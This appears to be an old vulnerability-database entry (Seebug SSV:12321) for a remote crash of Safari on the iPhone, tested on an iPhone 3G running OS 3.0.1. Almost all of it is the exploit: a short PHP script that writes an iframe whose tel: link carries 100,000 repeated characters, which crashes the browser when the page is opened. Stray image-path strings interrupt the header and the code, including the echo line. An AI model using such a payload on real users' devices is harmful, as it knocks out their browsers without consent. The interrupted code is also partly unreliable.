Apple Safari IPhone (using tel:) Remote Crash Exploit

ID SSV:12321
Type seebug
Reporter Root
Modified 2009-09-16T00:00:00


No description provided by source.

                                                # Apple Safari Iphone Crash using tel:
# Found by cloud :cloud[at]madpowah[dot]org

# Tested on Iphone 3G, OS 3.0.1
# Launch Safari, enter the page and after a few seconds Safari will crash and black screen will appear

# Exploit:

$var = "";
for ($i=0; $i<100000; $i++){
       $var = $var . "A";
echo'<iframe src="tel:' . $var .'"></iframe>';